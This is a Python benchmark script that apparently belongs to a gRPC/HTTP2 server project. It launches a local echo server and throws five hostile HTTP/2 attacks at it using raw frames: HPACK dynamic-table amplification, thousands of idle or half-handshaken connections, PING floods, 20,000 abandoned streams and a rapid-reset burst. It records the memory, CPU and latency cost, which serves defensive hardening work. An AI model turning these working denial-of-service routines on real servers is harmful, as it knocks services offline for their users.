"""Hostile HTTP/2 against a ``GRPC_H2`` server process: the figures of issue 23 (findings 1-5).

``python bench/h2_attacks.py [--only hpack idle pings abandoned resets]`` starts an echo server in a
subprocess (pinned to CPU 0 when possible), runs each attack from this process with raw frames, and
prints what it cost the server (``VmRSS`` from ``/proc/<pid>/status``, CPU from ``/proc/<pid>/stat``)
and, where it matters, the latency of normal calls made on another connection meanwhile.

- ``hpack``: the issue's HPACK amplification: one HEADERS frame puts a 4,000-byte value in the
  dynamic table, 40 more name it 4,000 times each (161 KiB). Goal: under 10 MiB.
- ``idle``: ``--connections`` (2,000) connections that never finish the handshake and as many that
  finish it and then stay silent; all must be closed by the handshake / idle timeouts the server is
  started with (``--handshake``, ``--idle``).
- ``pings``: connections that flood PINGs, one after another for ``--seconds``; each must end in
  GOAWAY within a second, while normal calls keep p99 under 20 ms.
- ``abandoned``: ``--streams`` (20,000) streams opened on one connection and never finished; RSS
  once the connection has closed must be within 20 MiB of where it started.
- ``resets``: rapid reset, 200,000 streams opened and cancelled at once.

``--kitex-root DIR`` runs the server from another checkout (e.g. an older commit) for comparison;
``--no-flood-limits`` turns the SETTINGS and RST_STREAM rate limits off (the reset budget also ends
a connection that keeps opening streams past MAX_CONCURRENT_STREAMS, so ``abandoned`` then shows
what 20,000 refusals cost).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import os
import struct
import subprocess
import sys
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
SETTINGS_ACK = b"\x00\x00\x00\x04\x01\x00\x00\x00\x00"


def frame(kind: int, flags: int, stream_id: int, payload: bytes) -> bytes:
    n = len(payload)
    return struct.pack(">BHBBL", n >> 16, n & 0xFFFF, kind, flags, stream_id) + payload


# -- the server process ----------------------------------------------------------------------------


def serve(args: argparse.Namespace) -> None:
    sys.path.insert(0, os.getcwd())
    from gen.echo.v1 import echo_kitex, echo_pb2
    from kitex_grpc import TransportProtocol, server

    class Echo(echo_kitex.EchoHandler):
        async def Unary(self, request: echo_pb2.EchoRequest) -> echo_pb2.EchoReply:
            return echo_pb2.EchoReply(message=request.message)

    flood_options = []
    if args.no_flood_limits:
        from kitex_grpc.protocol.h2_limits import FloodLimits

        flood_options.append(server.with_grpc_flood_limits(FloodLimits(settings_rate=0, reset_rate=0)))

    async def main() -> None:
        svr = echo_kitex.new_server(
            Echo(),
            server.with_service_addr("127.0.0.1:0"),
            server.with_transport_protocol(TransportProtocol.GRPC_H2),
            server.with_read_write_timeout(args.handshake),
            server.with_max_conn_idle_time(args.idle),
            *flood_options,
        )
        await svr.start()
        print("LISTENING", svr.address, flush=True)
        await asyncio.Event().wait()

    with contextlib.suppress(KeyboardInterrupt):
        asyncio.run(main())


class Server:
    def __init__(self, args: argparse.Namespace) -> None:
        root = Path(args.kitex_root or ROOT)
        cmd = [sys.executable, str(Path(__file__).resolve()), "--serve"]
        cmd += ["--handshake", str(args.handshake), "--idle", str(args.idle)]
        cmd += ["--no-flood-limits"] if args.no_flood_limits else []
        if hasattr(os, "sched_setaffinity") and (os.cpu_count() or 1) > 1:
            cmd = ["taskset", "-c", "0", *cmd]
        env = {**os.environ, "PYTHONPATH": str(root)}
        self.proc = subprocess.Popen(cmd, cwd=root, env=env, stdout=subprocess.PIPE, text=True)
        assert self.proc.stdout is not None
        line = self.proc.stdout.readline().split()
        if not line or line[0] != "LISTENING":
            raise SystemExit(f"server did not start: {line}")
        self.address = line[1]
        self.pid = self.proc.pid  # taskset execs the server in place

    def rss_mib(self) -> float:
        for line in Path(f"/proc/{self.pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
        return 0.0

    def cpu_seconds(self) -> float:
        fields = Path(f"/proc/{self.pid}/stat").read_text().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def close(self) -> None:
        self.proc.terminate()
        try:
            self.proc.wait(5)
        except subprocess.TimeoutExpired:
            self.proc.kill()


# -- helpers ---------------------------------------------------------------------------------------


async def open_raw(address: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    host, port = address.rsplit(":", 1)
    return await asyncio.open_connection(host, int(port))


async def until_closed(reader: asyncio.StreamReader, seconds: float) -> bytes:
    data = bytearray()
    with contextlib.suppress(TimeoutError, ConnectionError):
        async with asyncio.timeout(seconds):
            while chunk := await reader.read(1 << 16):
                data += chunk
    return bytes(data)


def goaway_code(data: bytes) -> str:
    """The error code and debug data of the first GOAWAY in ``data`` (frames from the server)."""
    at = 0
    while at + 9 <= len(data):
        n = int.from_bytes(data[at : at + 3], "big")
        if data[at + 3] == 0x7 and at + 9 + n <= len(data):
            payload = data[at + 9 : at + 9 + n]
            return f"GOAWAY code={int.from_bytes(payload[4:8], 'big')} debug={payload[8:]!r}"
        at += 9 + n
    return "no GOAWAY read (closed)"


class Caller:
    """Normal unary calls, one after another on their own connection, from their own process (so the
    attacker's work in this process does not count), with their latencies."""

    def __init__(self, address: str) -> None:
        self.address = address
        self.proc: subprocess.Popen[str] | None = None

    async def once(self) -> None:
        return None  # the canary process makes its first call before it reports READY

    def start(self) -> None:
        cmd = [sys.executable, str(Path(__file__).resolve()), "--canary", self.address]
        self.proc = subprocess.Popen(cmd, cwd=ROOT, stdout=subprocess.PIPE, stdin=subprocess.PIPE, text=True)
        assert self.proc.stdout is not None
        if self.proc.stdout.readline().strip() != "READY":
            raise SystemExit("the canary did not start")

    async def stop(self) -> str:
        assert self.proc is not None
        out, _ = self.proc.communicate("stop\n", timeout=30)
        return out.strip()


def canary(address: str) -> None:
    """The canary process: calls until a line arrives on stdin, then prints their latencies."""
    sys.path.insert(0, str(ROOT))
    from gen.echo.v1 import echo_kitex, echo_pb2
    from kitex_grpc import TransportProtocol, client

    async def main() -> None:
        cli = echo_kitex.new_client(
            "echo",
            client.with_host_ports(address),
            client.with_transport_protocol(TransportProtocol.GRPC_H2),
            client.with_connect_timeout(5.0),
        )
        request = echo_pb2.EchoRequest(message="canary")
        await cli.Unary(request)
        loop = asyncio.get_running_loop()
        stop = loop.run_in_executor(None, sys.stdin.readline)
        print("READY", flush=True)
        latencies: list[float] = []
        failures = 0
        while not stop.done():
            start = time.perf_counter()
            try:
                await asyncio.wait_for(cli.Unary(request), 5)
            except Exception:
                failures += 1
            latencies.append(time.perf_counter() - start)
            await asyncio.sleep(0.002)
        await cli.close()
        lat = sorted(latencies) or [0.0]

        def p(q: float) -> float:
            return lat[min(len(lat) - 1, int(q * len(lat)))] * 1000

        print(
            f"normal calls on another connection: {len(lat)}, failed {failures}, p50 {p(0.5):.2f} ms, "
            f"p99 {p(0.99):.2f} ms, max {lat[-1] * 1000:.2f} ms"
        )

    asyncio.run(main())


# -- attacks ---------------------------------------------------------------------------------------


async def hpack_attack(srv: Server, args: argparse.Namespace) -> None:
    import hpack

    before = srv.rss_mib()
    reader, writer = await open_raw(srv.address)
    first = hpack.Encoder().encode(
        [(b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/echo.v1.Echo/Unary"),
         (b"content-type", b"application/grpc"), (b"x-b", b"v" * 4000)]
    )  # fmt: skip
    out = PREFACE + SETTINGS + frame(0x1, 0x4, 1, first)
    # Each a request held open: :method POST, :scheme http (static), :path (a literal), content-type
    # (dynamic 63; the 4,000-byte x-b evicted :path), then x-b (dynamic 62, 0xbe) 4,000 times.
    attack = b"\x83\x86\x04\x13/echo.v1.Echo/Unary\xbf" + b"\xbe" * 4000
    out += b"".join(frame(0x1, 0x4, 3 + 2 * i, attack) for i in range(40))
    peak = before
    with contextlib.suppress(ConnectionError):
        writer.write(out)
        await writer.drain()
    reading = asyncio.ensure_future(until_closed(reader, 10))
    while not reading.done():
        peak = max(peak, srv.rss_mib())
        await asyncio.sleep(0.01)
    data = reading.result()
    writer.close()
    await asyncio.sleep(0.5)
    after = srv.rss_mib()
    print(
        f"hpack: sent {len(out) / 1024:.0f} KiB; server RSS {before:.1f} -> peak {peak:.1f} -> "
        f"{after:.1f} MiB (peak +{peak - before:.1f} MiB); {goaway_code(data)}"
    )


async def idle_attack(srv: Server, args: argparse.Namespace) -> None:
    n = args.connections
    conns = []
    start = time.monotonic()
    for i in range(2 * n):
        reader, writer = await open_raw(srv.address)
        if i % 2:  # handshake done, then silence
            writer.write(PREFACE + SETTINGS + SETTINGS_ACK)
        conns.append((i % 2, reader, writer))
    opened = time.monotonic() - start

    async def closed_after(reader: asyncio.StreamReader) -> float:
        """Seconds from the start until the server closed it; infinite if it stayed open."""
        try:
            async with asyncio.timeout(args.handshake + 2 * args.idle + 10):
                while await reader.read(1 << 16):
                    pass
        except TimeoutError:
            return float("inf")
        except ConnectionError:
            pass
        return time.monotonic() - start

    times = await asyncio.gather(*(closed_after(r) for _, r, _ in conns))
    limit = opened + args.handshake + 2 * args.idle + 1
    for kind, label in ((0, "no handshake"), (1, "idle after handshake")):
        mine = [t for (k, _, _), t in zip(conns, times, strict=True) if k == kind]
        closed = [t for t in mine if t != float("inf")]
        last = f"the last after {max(closed):.1f}s" if closed else "none"
        print(
            f"idle: {len(closed)} of {len(mine)} connections ({label}) closed by the server, {last} "
            f"(handshake timeout {args.handshake:g}s, idle timeout {args.idle:g}s, {opened:.1f}s to open "
            f"them all); {sum(t > limit for t in mine)} still open past {limit:.1f}s"
        )
    for _, _, writer in conns:
        writer.close()


async def ping_attack(srv: Server, args: argparse.Namespace) -> None:
    caller = Caller(srv.address)
    await caller.once()
    caller.start()
    cpu = srv.cpu_seconds()
    pings = b"".join(frame(0x6, 0, 0, i.to_bytes(8, "big")) for i in range(3_000))
    ends: list[float] = []
    codes: set[str] = set()
    deadline = time.monotonic() + args.seconds
    while time.monotonic() < deadline:
        reader, writer = await open_raw(srv.address)
        start = time.monotonic()
        reading = asyncio.ensure_future(until_closed(reader, 5))
        with contextlib.suppress(ConnectionError):
            writer.write(PREFACE + SETTINGS)
            while not reading.done():  # a flood of PINGs, 51 KB at a time, until the server ends it
                writer.write(pings)
                await writer.drain()
                await asyncio.sleep(0)
        data = await reading
        ends.append(time.monotonic() - start)
        codes.add(goaway_code(data))
        writer.close()
    print(
        f"pings: {len(ends)} flooding connections in {args.seconds:g}s, each ended after at most "
        f"{max(ends) * 1000:.0f} ms ({'; '.join(sorted(codes))}); server CPU "
        f"{srv.cpu_seconds() - cpu:.2f}s; {await caller.stop()}"
    )


async def abandoned_attack(srv: Server, args: argparse.Namespace) -> None:
    import hpack

    caller = Caller(srv.address)
    await caller.once()
    before = srv.rss_mib()
    caller.start()
    reader, writer = await open_raw(srv.address)
    reading = asyncio.ensure_future(until_closed(reader, 600))
    enc = hpack.Encoder()
    headers = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/echo.v1.Echo/Unary"),
               (b":authority", b"echo"), (b"content-type", b"application/grpc")]  # fmt: skip
    sid = 1
    sent = 0
    peak = before
    with contextlib.suppress(ConnectionError):
        writer.write(PREFACE + SETTINGS + SETTINGS_ACK)
        while sent < args.streams and not reading.done():
            writer.write(b"".join(frame(0x1, 0x4, sid + 2 * i, enc.encode(headers)) for i in range(500)))
            sid += 1000
            sent += 500
            await writer.drain()
            peak = max(peak, srv.rss_mib())
        await asyncio.sleep(1.0)
    peak = max(peak, srv.rss_mib())
    writer.close()
    data = await reading
    await asyncio.sleep(1.0)
    after = srv.rss_mib()
    print(
        f"abandoned: {sent} streams opened, never finished ({goaway_code(data)}): server RSS "
        f"{before:.1f} -> peak {peak:.1f} -> {after:.1f} MiB after the connection closed "
        f"({after - before:+.1f} MiB); {await caller.stop()}"
    )


async def reset_attack(srv: Server, args: argparse.Namespace) -> None:
    import hpack

    caller = Caller(srv.address)
    await caller.once()
    caller.start()
    cpu = srv.cpu_seconds()
    headers = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/echo.v1.Echo/Unary"),
               (b"content-type", b"application/grpc")]  # fmt: skip
    rst = (8).to_bytes(4, "big")  # CANCEL
    sent = 0
    ends: list[float] = []
    per_connection: list[int] = []
    codes: set[str] = set()
    began = time.monotonic()
    deadline = began + args.seconds
    while time.monotonic() < deadline and sent < args.resets:  # reconnect when the server ends one
        reader, writer = await open_raw(srv.address)
        reading = asyncio.ensure_future(until_closed(reader, 60))
        enc = hpack.Encoder()
        start = time.monotonic()
        mine = 0
        sid = 1
        with contextlib.suppress(ConnectionError):
            writer.write(PREFACE + SETTINGS + SETTINGS_ACK)
            while sent < args.resets and not reading.done():
                writer.write(
                    b"".join(
                        frame(0x1, 0x4, sid + 2 * i, enc.encode(headers)) + frame(0x3, 0, sid + 2 * i, rst)
                        for i in range(500)
                    )
                )
                sid += 1000
                sent += 500
                mine += 500
                await writer.drain()
                await asyncio.sleep(0)
        data = await reading
        ends.append(time.monotonic() - start)
        per_connection.append(mine)
        codes.add(goaway_code(data))
        writer.close()
    print(
        f"resets: {sent} streams opened and reset over {len(ends)} connections in "
        f"{time.monotonic() - began:.2f}s; each "
        f"connection ended after at most {max(ends) * 1000:.0f} ms and {max(per_connection)} streams "
        f"({'; '.join(sorted(codes))}); server CPU {srv.cpu_seconds() - cpu:.2f}s; {await caller.stop()}"
    )


ATTACKS = {
    "hpack": hpack_attack,
    "idle": idle_attack,
    "pings": ping_attack,
    "abandoned": abandoned_attack,
    "resets": reset_attack,
}


def main() -> None:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--only", nargs="+", choices=sorted(ATTACKS), default=list(ATTACKS))
    parser.add_argument("--connections", type=int, default=2000)
    parser.add_argument("--streams", type=int, default=20000)
    parser.add_argument("--resets", type=int, default=200000)
    parser.add_argument("--seconds", type=float, default=3.0)
    parser.add_argument("--handshake", type=float, default=2.0, help="server handshake timeout (s)")
    parser.add_argument("--idle", type=float, default=2.0, help="server idle timeout (s)")
    parser.add_argument("--kitex-root", help="run the server from this checkout")
    parser.add_argument(
        "--no-flood-limits", action="store_true", help="server without SETTINGS / RST_STREAM rate limits"
    )
    parser.add_argument("--serve", action="store_true", help=argparse.SUPPRESS)
    parser.add_argument("--canary", help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.canary:
        canary(args.canary)
        return
    if args.serve:
        serve(args)
        return
    for name in args.only:
        srv = Server(args)  # a fresh server per attack: one attack's memory does not hide another's
        try:
            asyncio.run(ATTACKS[name](srv, args))
        finally:
            srv.close()


if __name__ == "__main__":
    main()
